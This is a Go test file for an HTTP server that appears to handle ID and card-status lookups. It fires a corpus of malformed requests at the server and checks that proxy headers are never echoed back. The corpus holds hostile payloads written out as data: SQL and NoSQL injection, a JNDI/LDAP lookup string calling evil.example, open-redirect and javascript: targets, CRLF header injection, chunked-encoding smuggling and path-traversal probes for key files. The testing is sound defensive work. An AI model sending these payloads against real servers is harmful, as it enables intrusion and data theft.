package server

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"
)

// rudeRequests are shapes that try what stands behind the address: the reading of
// JSON and forms, conditions and ranges, preflights, chunks and upgrades.
func rudeRequests(add func(kind, request string)) {
	const end = "\r\n\r\n"
	get := func(kind, target, fields string) {
		add(kind, "GET "+target+" HTTP/1.1\r\nHost: x\r\n"+fields+"\r\n\r\n")
	}
	post := func(kind, target, contentType, body string) {
		add(kind, fmt.Sprintf("POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: %s\r\nContent-Length: %d%s%s", target, contentType, len(body), end, body))
	}
	for _, body := range []string{
		`{"a":` + strings.Repeat(`{"a":`, 600) + "1" + strings.Repeat("}", 601), `{"id_number":-0.0}`, `{"id_number":"1","card_number":"2"} trailing`, `{"id_number":"1","card_number":"2",}`, "//c\n{}", "/* */{}", "NaN", "-", "0",
		`{"constructor":{"prototype":{}}}`, `{"id_number":{"$ne":null},"card_number":{"$ne":null}}`, `{"id_number":"' OR 1=1 --","card_number":"x"}`, `{"id_number\u0000":"1"}`, `{"id_number":"` + strings.Repeat(`\u200b`, 600) + `","card_number":"A"}`,
		`{"id_number":"` + strings.Repeat("１", 18) + `","card_number":"` + strings.Repeat("Ａ", 32) + `"}`, `{"id_number":"` + strings.Repeat("٠", 18) + `","card_number":"AB12"}`, `{"id_number":"` + strings.Repeat("𝟏", 18) + `","card_number":"ﷺﷺﷺﷺ"}`,
		"{\x00\"\x00a\x00\"\x00", "\xff\xfe{\x00}\x00", "+AHs-", strings.Repeat(" ", 4096), strings.Repeat("\n", 4097),
	} {
		for _, target := range []string{"/api/v1/card-status", "/en/status/", "/api/v1/feedback"} {
			post("JSON", target, "application/json", body)
			post("JSON that is said to be a form", target, "application/x-www-form-urlencoded", body)
		}
	}
	for _, contentType := range []string{
		"application/json;charset=utf-8;charset=x", "APPLICATION/JSON", "text/json", "application/*", "*/*", "json", "", ";", `application/json; a="`, "application/json\t;", "multipart/form-data; boundary=x", "message/http", "application/json;" + strings.Repeat("a=b;", 500),
		"application/x-www-form-urlencoded; charset=gbk", "application/json; charset=utf-7", "application/json\r\nContent-Type: text/plain",
	} {
		for _, target := range []string{"/api/v1/card-status", "/en/status/", "/api/v1/feedback", "/api/v1/search", "/"} {
			post("type", target, contentType, `{"id_number":"1","card_number":"2"}`)
		}
	}
	for _, page := range []string{"//evil.example/", "https://evil.example/", "/\\evil.example", "/en/%0d%0aX:%201/", "/en/../zh/", "javascript:alert(1)", "", "/en/guides/reissue/%00", strings.Repeat("/", 3000), "/en/guides/reissue/&page=//evil.example"} {
		for _, useful := range []string{"yes", "no", "maybe", "", "yes&useful=no"} {
			post("vote", "/api/v1/feedback", "application/x-www-form-urlencoded", "page="+page+"&useful="+useful)
		}
	}
	for _, target := range []string{"/en/guides/reissue/", "/sitemap.xml", "/api/openapi.json", "/en/search/?q=card", "/api/v1/search?q=card&lang=en", "/api/v1/guides/en/guides/reissue", "/robots.txt"} {
		for _, fields := range []string{
			"If-Range: \"x\"\r\nRange: bytes=0-1", "If-Range: W/\"x\"\r\nRange: bytes=0-1", "If-Range: Mon, 99 Foo 9999 99:99:99 GMT\r\nRange: bytes=0-1", "If-None-Match: W/", "If-None-Match: \"", "If-None-Match: " + strings.Repeat(`W/"x",`, 2000), "If-None-Match: *, \"x\"", "If-Match: *\r\nIf-None-Match: *",
			"If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT", "If-Modified-Since: Fri, 31 Dec 9999 23:59:59 GMT", "If-Modified-Since: " + strings.Repeat("x", 9000), "If-None-Match: \"\xff\"", "Cache-Control: only-if-cached, max-stale=99999999999",
			"Accept-Encoding: " + strings.Repeat("*;q=0,", 2500), "Accept-Encoding: identity;q=0, *;q=0", "Accept-Encoding: gzip;q=1e9", "Accept-Encoding: ,,,;;;q", "Accept: " + strings.Repeat("a/b;c=d,", 2000), "Accept: /", "Accept-Language: zh-Hant-TW-x-" + strings.Repeat("a", 8000), "Accept-Language: " + strings.Repeat("en;q=0.000000001,", 1500),
			"Accept-Language: zh-" + strings.Repeat("a-", 4000), "Cookie: " + strings.Repeat("a", 27000), "User-Agent: " + strings.Repeat("(", 20000), "User-Agent: ${jndi:ldap://evil.example/x}", "Authorization: Basic " + strings.Repeat("A", 20000), "Origin: http://[::1", "Access-Control-Request-Method: " + strings.Repeat("X", 5000),
		} {
			get("condition", target, fields)
		}
	}
	for _, target := range []string{"/api/v1/search", "/api/v1/card-status", "/api/v1/feedback", "/api/v1/guides/en/guides/reissue", "/en/", "/nothing", "*"} {
		for _, fields := range []string{"Origin: https://a.example\r\nAccess-Control-Request-Method: POST", "Origin: null\r\nAccess-Control-Request-Method: DELETE\r\nAccess-Control-Request-Headers: " + strings.Repeat("x,", 3000), "Origin: x\r\nAccess-Control-Request-Private-Network: true\r\nAccess-Control-Request-Method: GET", "Origin: \xff\r\nAccess-Control-Request-Method: ("} {
			add("preflight", "OPTIONS "+target+" HTTP/1.1\r\nHost: x\r\n"+fields+end)
		}
	}
	for _, protocol := range []string{"h2c", "h2c, websocket", "HTTP/2.0", "TLS/1.2", "websocket"} {
		for _, fields := range []string{"HTTP2-Settings: AAMAAABkAAQAAP__", "HTTP2-Settings: %%%", "HTTP2-Settings: \r\nHTTP2-Settings: ", "Sec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13"} {
			get("upgrade", "/en/", "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: "+protocol+"\r\n"+fields)
			add("upgrade with a body", "POST /api/v1/card-status HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: "+protocol+"\r\n"+fields+"\r\nContent-Length: 2"+end+"{}")
		}
	}
	for _, chunks := range []string{
		"2;ext=\"a\r\nb\"\r\n{}\r\n0\r\n\r\n", "2 ;a=b\r\n{}\r\n0\r\n\r\n", "02\r\n{}\r\n00\r\n\r\n", "2\r\n{}\r\n0\r\nContent-Length: 5\r\nHost: y\r\n\r\n", "2\r\n{}\r\n0\r\n" + strings.Repeat("A: b\r\n", 5000) + "\r\n", "2\r\n{}\r\n0\r\nX\r\n\r\n", "2\r\n{}0\r\n\r\n", "2\r\n{}\r\n-0\r\n\r\n",
		"0x2\r\n{}\r\n0\r\n\r\n", "2;" + strings.Repeat("a", 20000) + "\r\n{}\r\n0\r\n\r\n", "10000000000000000\r\n", "+2\r\n{}\r\n0\r\n\r\n", " 2\r\n{}\r\n0\r\n\r\n", "2\r\r\n{}\r\n0\r\n\r\n", "2\r\n{}\r\n0\r\n : x\r\n\r\n", strings.Repeat("1\r\n \r\n", 3000) + "0\r\n\r\n",
	} {
		for _, fields := range []string{"", "Trailer: Content-Length, Host, Transfer-Encoding\r\nTE: trailers\r\n"} {
			add("chunks", "POST /api/v1/card-status HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n"+fields+"\r\n"+chunks)
			add("chunks of a page", "GET /en/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"+fields+"\r\n"+chunks)
		}
	}
	for _, target := range []string{
		"/api/v0/search?q=a", "/api/v2/search?q=a", "/API/v1/search?q=a", "/api/openapi.yaml", "/api/schema/..%2fopenapi.json", "/api/v1/guides/en/guides/..%2f..%2fsite", "/api/v1/guides//guides/reissue", "/api/v1/guides?limit=-1", "/api/v1/guides?offset=99999999999999999999", "/metrics", "/debug/pprof/", "/debug/vars", "/en/guides/reissue/index.html",
		"/en/guides/reissue/;jsessionid=1", "/en\\guides\\reissue", "/%65n/", "/zh-CN/", "/.well-known/../site.json", "/site.json.zst", "/en/guides/reissue/index.html.br", "/cards.db", "/data/cards.key", "/aux.html", "/api/v1/search?q=card&lang=en&callback=alert", "/api/v1/search?q=card&limit=1e2", "/api/v1/search?q=card&offset=-0", "/api/v1/search?q=" + strings.Repeat("%F3%A0%81%81", 66),
	} {
		for _, method := range []string{"GET", "HEAD", "POST", "DELETE"} {
			add("address", method+" "+target+" HTTP/1.1\r\nHost: x\r\nContent-Length: 0"+end)
		}
	}
}

// What a trusted proxy hands on may come from anybody: whatever it says, each
// address is answered as without it, and nothing of it comes back but a plain
// request id.
func TestATrustedProxyMayHandOnAnything(t *testing.T) {
	i := start(t, func(c *Config) { c.TrustedProxies = []netip.Prefix{netip.MustParsePrefix("0.0.0.0/0")} })
	targets := []string{"/", "/en/", "/en/guides/reissue/", "/api/v1/search?q=card&lang=en", "/en/status/", "/api/v1/guides?lang=en", "/readyz", "/nothing"}
	want := map[string]int{}
	for _, target := range targets {
		want[target] = i.do("GET", target, "").Code
	}
	for _, header := range []string{
		"X-Forwarded-For: " + strings.Repeat("1.1.1.1,", 3000) + "2.2.2.2", "X-Forwarded-For: ::ffff:1.2.3.4%eth0", "X-Forwarded-For: unknown", "X-Forwarded-For: 1.2.3.4:99999, [::1]:x", "X-Forwarded-For: ,,,,", "X-Forwarded-For: 999.999.999.999", "X-Forwarded-For: <script>", "X-Forwarded-For: \xff",
		"X-Forwarded-Proto: javascript", "X-Forwarded-Proto: https,http", "X-Request-Id: " + strings.Repeat("evil", 5000), "X-Request-Id: evil\x1b[31m", "X-Request-Id: evil\tevil", `X-Request-Id: {"level":"evil"}`, "X-Request-Id: evil 身份证",
		"Traceparent: 00-" + strings.Repeat("0", 32) + "-" + strings.Repeat("0", 16) + "-00", "Traceparent: ff-evil", "Traceparent: " + strings.Repeat("0", 5000), "Tracestate: " + strings.Repeat("a=b,", 4000), "Baggage: " + strings.Repeat("k=v,", 4000), `Forwarded: for="[::1]";host=evil;proto=x`,
		"X-Forwarded-Host: evil", "X-Forwarded-Prefix: //evil", "X-Rewrite-Url: /evil", "X-Real-Ip: evil", "X-Forwarded-Port: -1", "Via: " + strings.Repeat("1.1 evil,", 3000),
	} {
		for _, target := range targets {
			w := i.do("GET", target, "", header)
			if w.Code != want[target] {
				t.Errorf("%s is %d, not %d, with %.60q", target, w.Code, want[target], header)
			}
			if strings.Contains(fmt.Sprint(w.Header()), "evil") || strings.Contains(w.Body.String(), "evil") {
				t.Errorf("%s tells what %.60q says: %v", target, header, w.Header())
			}
		}
	}
}
